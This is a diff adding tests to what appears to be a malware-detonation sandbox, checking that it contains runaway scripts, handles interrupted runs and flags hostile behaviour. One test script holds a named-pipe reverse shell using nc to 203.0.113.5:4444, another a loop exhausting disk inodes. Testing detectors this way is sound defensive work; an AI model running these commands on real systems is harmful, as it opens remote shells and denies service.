@@ -213,6 +213,15 @@ class Walls(Case):
         self.assertIn('disk 1', output, said)
         self.assertNotIn('made 40', output)
 
+    def test_names_of_files_end_too(self):
+        """A file without content costs memory of the kernel: there are as many as fit to the disk."""
+        script = corpus.GUARD + 'mkdir /m && cd /m; i=0; while [ $i -lt 30000 ] && : > f$i; do i=$((i+1)); done; echo made $i\n'
+        image = self.image('names').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('names:1')
+        _, report, said = detonate(self.temp, image, '--disk=16', seconds=100)
+        run = report['targets'][0]['runs'][0]
+        self.assertIn('No space left', run['output'], (run, said))
+        self.assertTrue(4000 < run['dropped'] < 16 * 256 + 1024, run['dropped'])
+
     def test_nothing_is_left_after_a_kill(self):
         image = self.image('sleeper').run('/bin/sleep', '60').write('sleeper:1')
         for how in (signal.SIGKILL, signal.SIGTERM):
@@ -235,6 +244,44 @@ class Walls(Case):
                 self.gone(lambda: [i for i in ids if glob.glob(f'/sys/fs/cgroup/{i}') + glob.glob(f'/sys/fs/cgroup/*/{i}')])
                 self.gone(lambda: [p for p in pids if pathlib.Path(f'/proc/{p}/cmdline').exists() and b'sleep' in pathlib.Path(f'/proc/{p}/cmdline').read_bytes()])
                 self.assertEqual([m for m in pathlib.Path('/proc/self/mounts').read_text(encoding='utf-8').splitlines() if str(self.temp) in m], [])
+
+    def start(self, image, out):
+        child = subprocess.Popen([DAVY, 'detonate', '-q', '--no-feed', '--mark', '-f', 'json', '-o', str(out), str(image)], stdout=subprocess.PIPE,
+                                 stderr=subprocess.PIPE, text=True, env={**os.environ, 'TMPDIR': str(self.temp), 'XDG_CACHE_HOME': str(self.temp / 'cache'),
+                                                                         'LC_ALL': 'C.UTF-8'})
+        self.addCleanup(child.kill)
+        return child
+
+    def test_a_run_that_is_stopped_is_told(self):
+        """What it did and dropped until then is in the report, which says that it is not whole; the signal is how it ends."""
+        script = '[ -f /run/davy-jail ] || exit 3; echo began; printf "#!/bin/sh\\necho dropped\\n" > /tmp/dropped; chmod 755 /tmp/dropped; sleep 60'
+        image, out = self.image('stopped').run('/bin/sh', '-c', script).write('stopped:1'), self.temp / 'stopped.json'
+        child = self.start(image, out)
+        wait_for(lambda: jails_of(self.temp) or child.poll() is not None, pause=0.1)
+        self.assertIsNone(child.poll())
+        time.sleep(3)
+        child.send_signal(signal.SIGINT)
+        said = child.communicate(timeout=PATIENCE)[1]
+        self.assertEqual(child.returncode, -signal.SIGINT, said)
+        self.assertIn('stopped by SIGINT while it ran: the report tells what was seen until then', said)
+        report = json.loads(out.read_text())
+        run = report['targets'][0]['runs'][0]
+        self.assertIn('began', run['output'])
+        self.assertEqual(run['ended'], 'it was stopped')
+        self.assertEqual(report['exit_code'], 3)
+        self.assertTrue(any(m['what'] == 'dropped' for m in run['timeline']), run)
+        self.gone(lambda: glob.glob(f'{self.temp}/davy-detonate-*'))
+
+    def test_what_is_stopped_before_it_runs_has_no_report(self):
+        out = self.temp / 'early.json'
+        child = self.start(self.image('early').run('/bin/true').write('early:1'), out)
+        wait_for(lambda: glob.glob(f'{self.temp}/davy-detonate-*') or child.poll() is not None, pause=0.001)
+        child.send_signal(signal.SIGTERM)
+        said = child.communicate(timeout=PATIENCE)[1]
+        self.assertEqual(child.returncode, -signal.SIGTERM, said)
+        self.assertIn('stopped by SIGTERM before anything ran; no report was written', said)
+        self.assertFalse(out.exists())
+        self.gone(lambda: glob.glob(f'{self.temp}/davy-detonate-*'))
 
 
 class Pretend(Case):
@@ -259,6 +306,28 @@ wget -q -O- http://api.ipify.org/
             self.assertTrue(any(part in a for a in asked), (part, asked, run['output'], said))
         for part in ('page 1', '203.0.113.77', '220 mx1.mail.example', '+PONG', 'mining.set_difficulty', 'SSH-2.0-OpenSSH'):
             self.assertIn(part, run['output'])
+
+
+    def test_pipes_with_names(self):
+        """They are no devices: a shell that is led elsewhere by one is seen, and so are services that live by them."""
+        script = corpus.GUARD + """mkfifo /tmp/f && echo made; mknod /tmp/zero c 1 5 || echo refused; mknod /tmp/disk b 8 0 || echo refused
+(sleep 2; echo exit) | nc -w 3 203.0.113.5 4444 < /tmp/f | sh -i > /tmp/f 2>&1
+"""
+        image = self.image('fifo').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('fifo:1')
+        _, report, said = detonate(self.temp, image, seconds=60)
+        target = report['targets'][0]
+        output = target['runs'][0]['output'].split('\n')
+        self.assertEqual((output.count('made'), output.count('refused')), (1, 2), (output, said))
+        self.assertIn('Reverse shell', {f['rule'] for f in target['findings']})
+
+    def test_a_page_is_fetched_and_read(self):
+        """Who reads a page that he fetched is no shell, although busybox, which he is, has one."""
+        script = corpus.GUARD + 'wget -q -O /tmp/page http://shop.example/ && cat /tmp/page && grep -c works /tmp/page\n'
+        image = self.image('reader').put('opt/start.sh', script, 0o755).run('/opt/start.sh').write('acme/reader:1')
+        code, report, said = detonate(self.temp, image, seconds=60)
+        target = report['targets'][0]
+        self.assertEqual((code, target['verdict']['word']), (0, 'clean'), ([f['rule'] for f in target['findings']], said))
+        self.assertIn('It works', target['runs'][0]['output'])
 
 
 class Clocks(Case):
@@ -365,13 +434,77 @@ class Breaks(Case):
             time.sleep(0.1)
 
 
+    def test_runc_does_not_end(self):
+        runc = self.temp / 'stuck/runc'
+        runc.parent.mkdir()
+        runc.write_text(f'#!/bin/sh\ncase " $* " in *" start "*) sleep 300 ;; esac\nexec {shutil.which("runc")} "$@"\n')
+        runc.chmod(0o755)
+        image = self.image('stuck-runc').run('/bin/true').write('stuck-runc:1')
+        code, report, said = detonate(self.temp, image, seconds=3, env={'PATH': f'{runc.parent}:{os.environ["PATH"]}'})
+        self.assertEqual(code, 3, said)
+        self.assertIn('runc start did not end within', json.dumps(report['targets'][0]['unread']))
+        self.gone(lambda: jails_of(self.temp))
+
+    def test_what_cannot_be_run_says_why_and_what_to_do(self):
+        """And what the files show is told all the same, on a page too."""
+        page = self.temp / 'refused.html'
+        script = corpus.GUARD + 'exit 0\n' + RIVALS
+        for name, words, why in (('gone', ['/opt/gone'], 'the image has no program `/opt/gone`'), ('text', ['/opt/text'], 'may be executed'),
+                                 ('folder', ['/opt'], 'may be executed'), ('by-path', ['gone'], 'no program `gone`'),
+                                 ('interpreter', ['/opt/no-interpreter'], 'could not be executed')):
+            with self.subTest(name):
+                image = self.image(f'refused-{name}').put('opt/tune.sh', script, 0o755).put('opt/text', 'text').put(
+                    'opt/no-interpreter', '#!/opt/missing\n', 0o755).run(*words).write('refused:1')
+                code, report, said = detonate(self.temp, image, f'--format=html={page}', seconds=5)
+                target = report['targets'][0]
+                self.assertEqual((code, report['exit_code']), (3, 3), (said, target['unread']))
+                self.assertIn(why, target['failure'])
+                self.assertNotIn('runc', target['failure'])
+                self.assertIn('Script evicts rivals', {f['rule'] for f in target['findings']})
+                self.assertIn('Script evicts rivals', page.read_text(encoding='utf-8'))
+                self.assertIn('not finished', page.read_text(encoding='utf-8'))
+        code, report, _ = detonate(self.temp, self.image('user').run('/bin/true', user='1000690000').write('user:1'))
+        self.assertEqual((code, 'up to 65535' in report['targets'][0]['failure']), (3, True))
+
+    def test_odd_words_of_an_image_do_not_save_it(self):
+        """An environment without names, a working folder that is relative: what other runtimes take, a jail takes."""
+        image = self.image('odd')
+        image.config.update(Env=['=x', 'A', '=', 'B=2', 'PATH=/bin'], WorkingDir='srv')
+        image.put('srv/start.sh', corpus.GUARD + 'pwd; echo $B\n', 0o755).run('./start.sh').write('odd:1')
+        code, report, said = detonate(self.temp, image.folder, seconds=20)
+        self.assertEqual((code, report['targets'][0]['runs'][0]['output']), (0, '/srv\n2\n'), (said, report['targets'][0]))
+
+    def test_a_stop_is_no_clean_run(self):
+        """During the run the report has what was seen and the code is 3; before it the signal ends the program, and nothing is left."""
+        sleeper = self.image('stopped').run('/bin/sleep', '60').write('stopped:1')
+        large = self.image('stopped-early').put('opt/large', os.urandom(1 << 20) * 300, 0o644).run('/bin/sleep', '60').write('early:1')
+        for image, code in ((sleeper, 3), (large, -signal.SIGTERM)):
+            out = self.temp / f'{image.name}.json'
+            child = subprocess.Popen([DAVY, 'detonate', '-q', '--no-feed', '-f', 'json', '-o', out, image], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
+                                     text=True, env={**os.environ, 'TMPDIR': str(self.temp), 'XDG_CACHE_HOME': str(self.temp / 'cache')})
+            if code == 3:
+                wait_for(lambda: any(pathlib.Path(p).read_text() for i in jails_of(self.temp) for p in glob.glob(f'/sys/fs/cgroup/**/{i}/cgroup.procs', recursive=True)))
+                time.sleep(1)
+            else:
+                wait_for(lambda: glob.glob(f'{self.temp}/davy-detonate-*/lower'), pause=0.01)
+            child.send_signal(signal.SIGTERM)
+            said = child.communicate(timeout=PATIENCE)[1]
+            self.assertEqual(child.returncode, code, said)
+            self.gone(lambda: glob.glob(f'{self.temp}/davy-detonate-*'))
+            self.assertEqual(out.exists(), code == 3)
+            if code == 3:
+                target = json.loads(out.read_text(encoding='utf-8'))['targets'][0]
+                self.assertEqual((target['runs'][0]['ended'], target['unread']['total']), ('it was stopped', 1), target)
+                self.assertIn('stopped', said)
+
+
 class Refusals(unittest.TestCase):
     def run_it(self, *words, davy=DAVY, **more):
         return subprocess.run([davy, 'detonate', *words], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               timeout=600, check=False, **more)
 
     def test_usage(self):
-        for words in ((), ('--time', '0', 'x'), ('--network', 'real', 'x'), ('--no-such', 'x')):
+        for words in ((), ('--time', '0', 'x'), ('--network', 'real', 'x'), ('--no-such', 'x'), ('',), ('one.tar', 'two.tar')):
             done = self.run_it(*words)
             self.assertEqual((done.returncode, bool(done.stderr)), (2, True), words)
 
